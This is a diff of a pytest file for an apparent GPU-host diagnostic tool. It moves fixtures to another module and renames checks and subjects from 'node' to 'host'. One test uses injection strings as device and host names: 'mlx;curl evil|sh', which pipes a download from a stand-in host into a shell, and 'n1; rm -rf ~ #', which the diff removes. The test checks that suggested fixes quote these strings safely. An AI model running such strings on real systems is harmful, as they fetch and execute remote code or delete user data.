@@ -6,44 +6,20 @@ import shlex
 
 import msgspec
 import pytest
+from tests.app.doctor.hosts import SOCKETS, WELL, examine_host, laid_out
 
 from rackloom.app.doctor import Sources, diagnose
-from rackloom.app.doctor_host import examine_host
 from rackloom.cli.doctor import doctor
 from rackloom.errors import Refused
 from rackloom.prove.doctor import names
-from rackloom.prove.doctor.checks import hosts
 from rackloom.prove.doctor.findings import Severity, State
 from rackloom.prove.picture.values import MeshSeen, NodeSeen, Picture
 from rackloom.topology.affinity import numa_of
 from rackloom.topology.facts import Fact, Source
 from rackloom.topology.profiles import load_machine, machine_names
-from rackloom.twin.hosts.sysroot import host_files, write_sysroot
 
 TRAY = "oci-bm.gpu.gb200-v3.4"
-SOCKETS = "  sl  local_address rem_address   st\n   0: 00000000:0016 00000000:0000 0A\n"
 LISTENS = "   1: 00000000:C350 00000000:0000 0A\n"
-WELL = {
-    "sys/module/nvidia/version": "580.95.05\n",
-    "proc/devices": "Character devices:\n  1 mem\n235 nvidia-caps-imex-channels\n\nBlock devices:\n  8 sd\n",
-    "proc/1/comm": "systemd\n",
-    "proc/1/cgroup": "0::/init.scope\n",
-    "proc/1/net/tcp": SOCKETS,
-    "etc/systemd/system/multi-user.target.wants/kubelet.service": "",
-    "proc/70/comm": "containerd\n",
-    "etc/containerd/config.toml": "version = 3\n[plugins.'io.containerd.cri.v1.runtime']\nenable_cdi=true\n",
-}
-
-
-def laid_out(root, machine, **changes):
-    """A healthy host below `root`, with some files changed (None: not there)."""
-    write_sysroot(host_files(machine), root)
-    for path, text in (WELL | changes).items():
-        if text is not None:
-            file = root / path
-            file.parent.mkdir(parents=True, exist_ok=True)
-            file.write_text(text)
-    return root
 
 
 @pytest.mark.parametrize("name", machine_names())
@@ -54,23 +30,23 @@ def test_nothing_is_wrong_with_any_published_machine(name, tmp_path):
 @pytest.mark.parametrize(
     ("path", "text", "check", "state"),
     [
-        ("sys/module/nvidia/version", "550.54.15\n", hosts.DRIVER, State.FAILS),
-        ("sys/module/nvidia/version", None, hosts.DRIVER, State.UNKNOWN),
-        ("proc/1/net/tcp", SOCKETS + LISTENS, hosts.PORTS, State.FAILS),
-        ("proc/1/net/tcp", None, hosts.PORTS, State.UNKNOWN),
-        ("proc/71/comm", "nvidia-imex\n", hosts.HOST_IMEX, State.UNKNOWN),
-        ("proc/70/comm", "crio\n", hosts.CDI, State.UNKNOWN),
+        ("sys/module/nvidia/version", "550.54.15\n", names.DRIVER, State.FAILS),
+        ("sys/module/nvidia/version", None, names.DRIVER, State.UNKNOWN),
+        ("proc/1/net/tcp", SOCKETS + LISTENS, names.PORTS, State.FAILS),
+        ("proc/1/net/tcp", None, names.PORTS, State.UNKNOWN),
+        ("proc/71/comm", "nvidia-imex\n", names.HOST_IMEX, State.UNKNOWN),
+        ("proc/70/comm", "crio\n", names.CDI, State.UNKNOWN),
         (
             "etc/systemd/system/multi-user.target.wants/nvidia-imex.service",
             "",
-            hosts.HOST_IMEX,
+            names.HOST_IMEX,
             State.FAILS,
         ),
-        ("proc/1/comm", None, hosts.HOST_IMEX, State.UNKNOWN),
-        ("proc/devices", "Character devices:\n  1 mem\n", hosts.CHANNELS, State.FAILS),
-        ("proc/devices", None, hosts.CHANNELS, State.UNKNOWN),
-        ("etc/containerd/config.toml", "no toml [", hosts.CDI, State.UNKNOWN),
-        ("etc/containerd/config.toml", None, hosts.CDI, State.UNKNOWN),
+        ("proc/1/comm", None, names.HOST_IMEX, State.UNKNOWN),
+        ("proc/devices", "Character devices:\n  1 mem\n", names.CHANNELS, State.FAILS),
+        ("proc/devices", None, names.CHANNELS, State.UNKNOWN),
+        ("etc/containerd/config.toml", "no toml [", names.CDI, State.UNKNOWN),
+        ("etc/containerd/config.toml", None, names.CDI, State.UNKNOWN),
     ],
 )
 def test_each_fault_of_a_host_is_one_finding(path, text, check, state, tmp_path):
@@ -80,8 +56,9 @@ def test_each_fault_of_a_host_is_one_finding(path, text, check, state, tmp_path)
     root = laid_out(tmp_path, load_machine(TRAY), **changes)
     found = {one.check: one for one in examine_host(root)}
     assert found[check].state is state
-    assert found.keys() == ({check, hosts.PORTS} if path == "proc/1/comm" else {check})
-    assert found[check].subject == f"node {load_machine(TRAY).name}"
+    assert found.keys() == {check}
+    assert bool(found[check].consequences) is (path == "proc/1/comm")
+    assert found[check].subject == f"host {load_machine(TRAY).name}"
     assert found[check].fix
 
 
@@ -104,7 +81,7 @@ def test_a_runtime_left_as_it_comes_is_judged_by_what_its_node_says(runtime, sta
     monkeypatch.setattr("rackloom.app.doctor.look", seen)
     root = laid_out(tmp_path, machine, **{"etc/containerd/config.toml": None})
     found = diagnose(Sources(sysroot=root)).findings
-    assert [(one.check, one.state) for one in found] == [(hosts.CDI, one) for one in states]
+    assert [(one.check, one.state) for one in found] == [(names.CDI, one) for one in states]
 
 
 DAEMON = {
@@ -122,7 +99,7 @@ def test_the_mesh_of_a_pods_daemon_is_what_the_cluster_says_or_unknown(told, che
     mesh = MeshSeen(domain="uid", node=machine.name, clique="c.1", complete=told)
 
     async def seen(sources, now):
-        return Picture(at=now, layers=(), meshes=(mesh,))
+        return Picture(at=now, layers=(), meshes=(mesh,), nodes=(NodeSeen(name=machine.name, ready=True),))
 
     monkeypatch.setattr("rackloom.app.doctor.look", seen)
     found = diagnose(Sources(sysroot=laid_out(tmp_path, machine, **DAEMON))).findings
@@ -196,7 +173,7 @@ def test_gpus_whose_processor_has_no_nic_are_one_finding(tmp_path):
     (found,) = examine_host(laid_out(tmp_path, msgspec.structs.replace(machine, nics=nics)))
     far = [gpu.index for gpu in machine.gpus if numa_of(gpu) == 1]
     assert (found.check, found.severity) == (names.NIC_ALIGNED, Severity.WARNING)
-    assert found.subject == f"GPU {', '.join(map(str, far))} of node {machine.name}"
+    assert found.subject == f"GPU {', '.join(map(str, far))} of host {machine.name}"
     assert len(found.evidence) == len(far) > 0
 
 
@@ -217,7 +194,7 @@ def test_a_host_alone_is_examined(tmp_path, capsys):
     (root / "sys/module/nvidia/version").write_text("550.54.15\n")
     assert doctor(sysroot=root, json=True) == 1
     told = json.loads(capsys.readouterr().out)
-    assert [one["check"] for one in told["findings"]] == [hosts.DRIVER]
+    assert [one["check"] for one in told["findings"]] == [names.DRIVER]
 
 
 def test_a_directory_that_is_no_hosts_is_refused(tmp_path):
@@ -284,12 +261,12 @@ def built(root, *functions):
 def test_a_virtual_function_of_a_nic_is_nobodys_rail(tmp_path):
     nics = [("3.0", INFINIBAND, {"name": "mlx5_0", **FAST}), ("3.1", INFINIBAND, {"name": "mlx5_1", **DOWN})]
     root = built(tmp_path, *GPUS, *nics)
-    assert [one.subject for one in examine_host(root)] == ["NIC mlx5_1 of node n1"]
+    assert [one.subject for one in examine_host(root)] == ["NIC mlx5_1 of host n1"]
     linked(root, {"sys/devices/pci0000:00/0000:00:03.1/physfn": "../0000:00:03.0"})
     assert examine_host(root) == ()
 
 
-@pytest.mark.parametrize(("layer", "slow"), [("Ethernet", []), ("InfiniBand", ["NIC mlx5_0 of node n1"])])
+@pytest.mark.parametrize(("layer", "slow"), [("Ethernet", []), ("InfiniBand", ["NIC mlx5_0 of host n1"])])
 def test_a_link_is_as_fast_as_others_of_its_own_kind(layer, slow, tmp_path):
     nics = [
         ("3.0", ETHERNET, {"name": "mlx5_0", "layer": layer, **SLOW}),
@@ -305,19 +282,16 @@ def test_without_gpus_no_nic_is_a_rail(tmp_path):
 def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
     hostile = "mlx;curl evil|sh"
     root = built(tmp_path, *GPUS, ("3.0", INFINIBAND, {"name": hostile, **DOWN}))
-    (root / "proc/sys/kernel/hostname").write_text("n1; rm -rf ~ #\n")
-    (root / "proc/70/comm").unlink()
     fixes = {one.check: one.fix for one in examine_host(root)}
     assert shlex.split(fixes[names.NIC_LINK], comments=True) == ["rdma", "link", "show", hostile]
-    assert shlex.split(fixes[hosts.CDI], comments=True)[3] == "n1; rm -rf ~ #"
 
 
 @pytest.mark.parametrize(
     ("links", "checks"),
     [
         ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026531836]"}, []),
-        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]"}, [hosts.PORTS, hosts.HOST_IMEX]),
-        ({"proc/1/ns/pid": "pid:[4026532001]"}, [hosts.PORTS, hosts.HOST_IMEX]),
+        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]"}, [names.HOST_IMEX]),
+        ({"proc/1/ns/pid": "pid:[4026532001]"}, [names.HOST_IMEX]),
         (
             {"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]", "proc/1/ns/pid": "pid:[4026531836]"},
             [],
